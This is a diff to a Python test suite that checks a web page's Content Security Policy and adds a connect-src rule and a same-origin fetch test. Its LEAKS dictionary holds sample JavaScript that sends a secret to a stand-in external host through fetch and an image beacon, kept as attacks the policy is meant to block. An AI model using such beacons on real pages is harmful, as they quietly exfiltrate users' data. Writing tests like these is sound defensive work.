@@ -27,7 +27,6 @@ ATTACKS = {
 # What may not leave the page, or change it.
 LEAKS = {
     "fetch": "fetch('https://other.invalid/?secret').catch(() => {})",
-    "own": "fetch('?secret').catch(() => {})",
     "picture": "new Image().src = 'https://other.invalid/?secret'",
     "style": "document.head.append(Object.assign(document.createElement('style'), "
     "{ textContent: 'p { color: red }' }))",
@@ -88,12 +87,13 @@ def visit(browser, server):
 def test_policy_is_strict(file):
     found = rules(file)
     assert found["default-src"] == found["base-uri"] == {"'none'"}
-    assert found["form-action"] == found["font-src"] == {"'self'"}
+    assert found["form-action"] == found["font-src"] == found["connect-src"] == {"'self'"}
     assert found["img-src"] == {"'self'", "data:"}
     assert found["style-src-elem"] == {"'self'", policy.digest(policy.STYLE_WITHOUT_SCRIPTS)}
     assert all(re.fullmatch(r"'self'|'sha256-.{44}'", source) for source in found["script-src"])
     assert not set(found) - {
-        "default-src", "base-uri", "form-action", "font-src", "img-src", "script-src",
+        "default-src", "base-uri", "form-action", "font-src", "connect-src", "img-src",
+        "script-src",
         "style-src", "style-src-elem", "style-src-attr",
     }  # fmt: skip
 
@@ -144,6 +144,12 @@ def test_what_we_ship_keeps_to_the_policy(visit):
     tab.keyboard.press("Enter")
     tab.locator("#search-results li a").first.wait_for(timeout=10_000)
     assert tab.evaluate("forbidden") == []
+
+
+def test_checkers_can_ask_for_robots_through_the_page(visit):
+    asked = "fetch(new URL('/robots.txt', location)).then(answer => answer.status)"
+    assert visit(PLAIN).evaluate(asked) == 404
+    assert visit(PLAIN).evaluate("forbidden") == []
 
 
 def test_the_print_button_prints(visit):
